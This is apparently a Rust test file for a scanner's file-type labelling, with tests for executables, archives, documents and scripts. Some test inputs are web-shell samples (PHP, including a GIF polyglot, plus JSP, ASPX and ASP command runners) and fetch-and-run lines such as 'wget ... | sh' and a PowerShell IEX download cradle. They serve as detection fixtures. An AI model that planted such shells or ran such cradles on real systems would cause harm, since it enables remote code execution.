#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Content labels.

mod common;

use common::*;
use hashscan_archive::{Limits, labels, labels_with_report, walk};
use zip::CompressionMethod;

fn has(data: &[u8], label: &str) -> bool {
    labels(data).contains(&label)
}

/// A minimal PE header: MZ, e_lfanew, PE signature, COFF header, optional header magic.
fn pe(magic: u16, characteristics: u16, clr: bool) -> Vec<u8> {
    let mut d = vec![0u8; 1024];
    d[..2].copy_from_slice(b"MZ");
    d[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    d[0x80..0x84].copy_from_slice(b"PE\0\0");
    let coff = 0x84;
    d[coff + 18..coff + 20].copy_from_slice(&characteristics.to_le_bytes());
    let opt = coff + 20;
    d[opt..opt + 2].copy_from_slice(&magic.to_le_bytes());
    let (count_at, dirs) = if magic == 0x10B {
        (opt + 92, opt + 96)
    } else {
        (opt + 108, opt + 112)
    };
    d[count_at..count_at + 4].copy_from_slice(&16u32.to_le_bytes());
    if clr {
        d[dirs + 14 * 8..dirs + 14 * 8 + 4].copy_from_slice(&0x2000u32.to_le_bytes());
    }
    d
}

#[test]
fn executables() {
    assert_eq!(labels(&pe(0x10B, 0x0102, false)), ["PE32", "EXE"]);
    assert_eq!(labels(&pe(0x20B, 0x2022, false)), ["PE32+", "DLL"]);
    assert_eq!(labels(&pe(0x10B, 0x0102, true)), ["PE32", "EXE", ".NET"]);
    assert!(labels(b"MZ but no PE header").is_empty());
    assert_eq!(labels(b"\x7FELF\x02\x01\x01\0rest"), ["ELF"]);
    assert_eq!(labels(b"\xCF\xFA\xED\xFE\x07\0\0\x01"), ["Mach-O"]);
    assert_eq!(labels(b"\xCA\xFE\xBA\xBE\0\0\0\x02"), ["Mach-O"]);
    assert_eq!(labels(b"\xCA\xFE\xBA\xBE\0\0\0\x34"), ["JavaClass"]);
}

#[test]
fn archives_use_filelabel_names() {
    let zip = zip_of(&[("a", b"a")], CompressionMethod::Deflated);
    assert_eq!(labels(&zip), ["Zip"]);
    assert_eq!(labels(&tar_of(&[("a", b"a")])), ["tar"]);
    assert_eq!(labels(&gz(b"a", None)), ["GZip"]);
    assert_eq!(labels(&bz2(b"a")), ["BZip2"]);
    assert_eq!(labels(&xz(b"a")), ["XZ"]);
    assert_eq!(labels(&sevenz_of(&[("a", b"a")], false)), ["7-Zip"]);
    assert_eq!(labels(b"Rar!\x1A\x07\x00...."), ["RAR"]);
    assert_eq!(labels(b"xar!\0\x1C\0\x01"), ["XAR"]);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut z, b"zlib data zlib data").unwrap();
    assert_eq!(labels(&z.finish().unwrap()), ["ZLib"]);
}

#[test]
fn jar_and_apk() {
    let jar = zip_of(
        &[
            ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"),
            ("a/B.class", b"\xCA\xFE\xBA\xBE"),
        ],
        CompressionMethod::Deflated,
    );
    assert_eq!(labels(&jar), ["Zip", "JAR"]);
    let apk = zip_of(
        &[
            ("AndroidManifest.xml", b"\x03\0\x08\0"),
            ("classes.dex", b"dex\n035\0"),
        ],
        CompressionMethod::Deflated,
    );
    assert_eq!(labels(&apk), ["Zip", "APK"]);
}

#[test]
fn documents() {
    assert_eq!(labels(b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj"), ["PDF"]);
    assert!(has(b"junk before %PDF-1.4\n", "PDF"));
    assert_eq!(
        labels(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0\0\0"),
        ["OLE2"]
    );
}

#[test]
fn encrypted_label_comes_from_the_walk() {
    let mut zip = zip_of(&[("a", b"a")], CompressionMethod::Stored);
    assert_eq!(labels(&zip), ["Zip"]);
    mark_encrypted(&mut zip, false);
    let report = walk(&zip, &Limits::default(), &mut |_| {
        hashscan_archive::Flow::Continue
    });
    assert_eq!(labels_with_report(&zip, &report), ["Zip", "encrypted"]);
    let plain = zip_of(&[("a", b"a")], CompressionMethod::Stored);
    let report = walk(&plain, &Limits::default(), &mut |_| {
        hashscan_archive::Flow::Continue
    });
    assert_eq!(labels_with_report(&plain, &report), ["Zip"]);
}

#[test]
fn php() {
    assert_eq!(labels(b"<?php system($_GET['cmd']); ?>"), ["PHP"]);
    assert_eq!(labels(b"<?= $x ?>"), ["PHP"]);
    assert_eq!(labels(b"<?PHP @eval($_POST['x']);"), ["PHP"]);
    // A GIF polyglot web shell.
    let mut gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00".to_vec();
    gif.extend_from_slice(b"<?php eval(base64_decode($_POST['z'])); ?>");
    assert!(has(&gif, "PHP"));
    assert!(labels(b"<?xml version=\"1.0\"?><a/>").is_empty());
}

#[test]
fn jsp() {
    let shell = br#"<%@ page import="java.io.*" %>
<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>"#;
    assert_eq!(labels(shell), ["JSP"]);
    assert_eq!(
        labels(b"<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\">"),
        ["JSP"]
    );
    assert_eq!(labels(b"<%! String x = \"a\"; %><%= x %>"), ["JSP"]);
    assert_eq!(
        labels(b"<%@ page contentType=\"text/html; charset=UTF-8\" pageEncoding=\"UTF-8\"%>"),
        ["JSP"]
    );
}

#[test]
fn aspx() {
    let shell = br#"<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">void Page_Load(object s, EventArgs e){ Process.Start("cmd.exe", Request["c"]); }</script>"#;
    let l = labels(shell);
    assert!(l.contains(&"ASPX"), "{l:?}");
    assert!(!l.contains(&"JSP") && !l.contains(&"ASP"), "{l:?}");
    assert!(has(
        b"<%@ WebHandler Language=\"C#\" Class=\"H\" %>",
        "ASPX"
    ));
}

#[test]
fn asp() {
    let shell = b"<%@ Language=VBScript %>\n<% Set s = Server.CreateObject(\"WScript.Shell\") : s.Run Request(\"c\") %>";
    assert_eq!(labels(shell), ["ASP"]);
    let bare = b"<%\nDim cmd\ncmd = Request.Form(\"c\")\nSet o = Server.CreateObject(\"WScript.Shell\")\n%>";
    assert_eq!(labels(bare), ["ASP"]);
    assert_eq!(
        labels(b"<%@ LANGUAGE=\"VBSCRIPT\" CODEPAGE=\"65001\" %>"),
        ["ASP"]
    );
}

#[test]
fn shells_and_interpreters() {
    assert_eq!(labels(b"#!/bin/sh\nwget http://x/y | sh\n"), ["Shell"]);
    assert_eq!(labels(b"#!/usr/bin/env bash\nset -e\n"), ["Shell"]);
    assert_eq!(labels(b"#!/usr/bin/python3\nimport os\n"), ["Python"]);
    assert_eq!(
        labels(b"import os\nimport sys\n\ndef main():\n    print(os.getcwd())\n\nif __name__ == '__main__':\n    main()\n"),
        ["Python"]
    );
    assert_eq!(labels(b"#!/usr/bin/perl -w\nuse strict;\n"), ["Perl"]);
    assert_eq!(
        labels(b"use strict;\nuse warnings;\nmy $x = 1;\nsub f { }\n"),
        ["Perl"]
    );
    assert_eq!(
        labels(b"IEX(New-Object Net.WebClient).DownloadString('http://x')"),
        ["PowerShell"]
    );
    assert_eq!(
        labels(b"param($a)\nWrite-Host $PSVersionTable\nGet-ChildItem | ForEach-Object { $_ }"),
        ["PowerShell"]
    );
    assert_eq!(
        labels(b"powershell -EncodedCommand SQBFAFgA"),
        ["PowerShell"]
    );
}

#[test]
fn html_and_javascript() {
    assert_eq!(
        labels(b"<!DOCTYPE html><html><body>hi</body></html>"),
        ["HTML"]
    );
    let l = labels(b"<html><?php echo 1; ?></html>");
    assert!(l.contains(&"HTML") && l.contains(&"PHP"), "{l:?}");
    assert_eq!(
        labels(b"var a = document.createElement('script');\nwindow.x = function(){ eval(a) };\nconsole.log(1);"),
        ["JavaScript"]
    );
    assert_eq!(
        labels(b"#!/usr/bin/env node\nconsole.log(1)"),
        ["JavaScript"]
    );
}

#[test]
fn plain_text_gets_nothing() {
    assert!(labels(b"Just some notes about the weekend, nothing to see.").is_empty());
    assert!(labels(b"").is_empty());
    assert!(labels(&[0u8; 600]).is_empty());
}
